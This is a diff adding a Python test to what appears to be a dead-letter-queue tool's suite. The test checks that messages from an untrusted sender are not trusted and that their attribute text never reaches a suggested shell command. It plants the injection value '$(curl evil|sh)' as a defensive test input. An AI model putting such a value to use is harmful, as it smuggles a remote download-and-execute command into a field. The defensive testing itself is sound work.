@@ -6,6 +6,7 @@ import json
 import shlex
 import time
 from collections.abc import Callable, Mapping
+from dataclasses import replace
 from datetime import datetime
 from typing import Any
 from unittest.mock import Mock
@@ -329,6 +330,32 @@ def test_a_look_finds_a_message_that_no_record_knows(orders: Cloud, dlq: Dlq) ->
     assert found["acts"][0]["says"] == "sent by AROA:us"
     assert orders.visible("orders-parking-default") == 2
     assert "4111-x" in dlq(f"show {sent} --look --body").stdout
+
+
+def test_a_stranger_s_stamp_is_not_believed(orders: Cloud, dlq: Dlq) -> None:
+    """Neither is its message shown as another, nor does its text stand in a command."""
+    orders.failed("orders", ORIGIN, fingerprint="f1aaaaaa")
+    stranger = replace(orders, sqs=orders.queues.as_sender("AIDASTRANGER:x"))
+    sent = [
+        stranger.letter(
+            "{}", Redrive=json.dumps({"origin": each, "attempt": 7, "reason": "POISON"})
+        )
+        for each in (ORIGIN, "$(curl evil|sh)")
+    ]
+
+    life = dlq(
+        f"show {sent[1]} --look", says="1 message with an attribute Redrive of another"
+    ).stdout
+    listed = json.loads(dlq("list --look --json").stdout)["messages"]
+    groups = json.loads(dlq("groups --look --in dlq --json").stdout)["groups"]
+
+    assert f"dlq show {sent[1]} --look" in life
+    assert "curl" not in life
+    assert {(each["message_id"], each["attempts"], each["reason"]) for each in listed} == {
+        (ORIGIN, 0, ""),
+        *((each, None, "") for each in sent),
+    }
+    assert [group["messages"] for group in groups if group["name"] == "f1aaaaaa"] == [1]
 
 
 def test_each_rule_says_why_it_did_or_did_not_match(orders: Cloud, dlq: Dlq) -> None:
